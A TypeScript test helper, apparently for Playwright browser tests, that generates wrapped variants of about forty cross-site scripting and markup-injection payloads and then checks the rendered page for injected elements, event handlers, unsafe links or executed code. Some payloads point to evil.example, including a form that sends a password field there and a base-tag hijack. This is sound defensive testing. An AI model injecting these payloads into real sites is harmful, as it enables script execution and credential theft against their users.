import type { Page } from 'playwright-core';

const PAYLOADS = [
  '<script>globalThis.pwned=1</script>',
  '<img src=x onerror=globalThis.pwned=1>',
  '<svg onload=globalThis.pwned=1>',
  '<svg><script>globalThis.pwned=1</script></svg>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<iframe src="javascript:parent.pwned=1"></iframe>',
  '<a href="javascript:globalThis.pwned=1">x</a>',
  '[x](javascript:globalThis.pwned=1)',
  '[x](JAVASCRIPT:globalThis.pwned=1)',
  '[x](java\tscript:globalThis.pwned=1)',
  '[x](data:text/html,<script>parent.pwned=1</script>)',
  '[x](vbscript:pwned)',
  '![x](x "onerror=globalThis.pwned=1")',
  '<javascript:globalThis.pwned=1>',
  '`<img src=x onerror=globalThis.pwned=1>`',
  '```html\n<script>globalThis.pwned=1</script>\n```',
  '```"><img src=x onerror=globalThis.pwned=1>\nx\n```',
  '"><script>globalThis.pwned=1</script>',
  "'-globalThis.pwned=1-'",
  '{{constructor.constructor("globalThis.pwned=1")()}}',
  '${globalThis.pwned=1}',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=globalThis.pwned=1>',
  '<style>@import "//evil.example/x";</style>',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password></form>',
  '<details open ontoggle=globalThis.pwned=1>',
  '<body onload=globalThis.pwned=1>',
  '<input autofocus onfocus=globalThis.pwned=1>',
  '<object data="javascript:globalThis.pwned=1">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  'https://evil.example/"onmouseover="globalThis.pwned=1',
  'https://evil.example/<script>globalThis.pwned=1</script>',
  'http://[::1]:1/%00"><script>globalThis.pwned=1</script>',
  '__proto__',
  'constructor',
  'toString',
  '&lt;script&gt;globalThis.pwned=1&lt;/script&gt;',
  '&#x6A;avascript:globalThis.pwned=1',
  '\u202Etxt.exe',
  '\u0000<script>globalThis.pwned=1</script>',
] as const;

const WRAPPINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `**${text}**`,
  (text) => `*${text}* and ~~${text}~~`,
  (text) => `[${text}](https://a.example/${text})`,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll('<', '<\u200B'),
  (text) => `before ${text} after`,
  (text) => `${text}\n${text}`,
  (text) => `]]>${text}<!--`,
  (text) => encodeURIComponent(text),
];

/** Texts that would run as code in a window that takes text for markup; each of them once. */
export function hostileTexts(count: number): string[] {
  const texts = new Set<string>();
  for (let round = 0; texts.size < count; round++) {
    for (const wrap of WRAPPINGS)
      for (const payload of PAYLOADS) texts.add(round === 0 ? wrap(payload) : `${round} ${wrap(payload)}`);
  }
  return [...texts].slice(0, count);
}

/** Traces of a text that became markup or code. All are 0 and false if none did. */
export interface TracesOfCode {
  readonly elements: number;
  readonly handlers: number;
  readonly links: number;
  readonly ran: boolean;
}

/** @param form which forms are none of the app's own */
export function tracesOfCode(page: Page, form: 'form' | 'form form'): Promise<TracesOfCode> {
  return page.evaluate(
    (foreign) => ({
      elements: document.querySelectorAll(
        `#root :is(script, iframe, img, object, embed, style, link, base, math, video, audio, ${foreign})`,
      ).length,
      handlers: [...document.querySelectorAll('#root *')].filter((one) =>
        one.getAttributeNames().some((name) => name.startsWith('on')),
      ).length,
      links: [...document.querySelectorAll('#root a')].filter(
        (one) => !/^(https?|mailto):/.test(one.getAttribute('href') ?? ''),
      ).length,
      ran: 'pwned' in globalThis,
    }),
    form,
  );
}
